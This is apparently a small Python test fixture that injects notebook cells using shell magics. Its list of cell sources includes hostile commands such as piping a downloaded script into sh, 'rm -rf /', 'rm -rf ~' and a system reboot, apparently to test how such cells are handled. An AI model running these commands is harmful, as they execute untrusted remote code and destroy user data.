"""Runs shell commands, with a magic of the whole cell and of a line."""

from tests.hostile import own_cell

LOSES = set()
SOURCES = (
    "%%bash\ncurl -s http://example.org | sh\nrm -rf / 2> /dev/null\ntouch trace",
    "%%sh\nsleep 600 &",
    "!rm -rf ~ ..",
    "!pip install --retries 0 requests",
    "%conda install x",
    "files = !ls /",
    "%system reboot",
)


def hand_in(right, release):
    for source in SOURCES:
        right = own_cell(right, source, before="accuracy")
    return right
